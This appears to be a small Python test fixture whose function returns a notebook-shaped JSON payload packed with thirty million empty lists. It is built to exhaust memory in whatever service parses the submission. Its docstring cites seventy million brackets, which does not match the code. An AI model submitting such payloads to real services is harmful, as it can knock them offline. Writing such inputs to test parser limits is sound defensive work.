"""Hands in seventy million opening brackets' worth of small lists, which take fifty times the file
in memory.
"""


def hand_in(notebook):
    return b'{"cells":[' + b"[]," * 30_000_000 + b"[]]}"
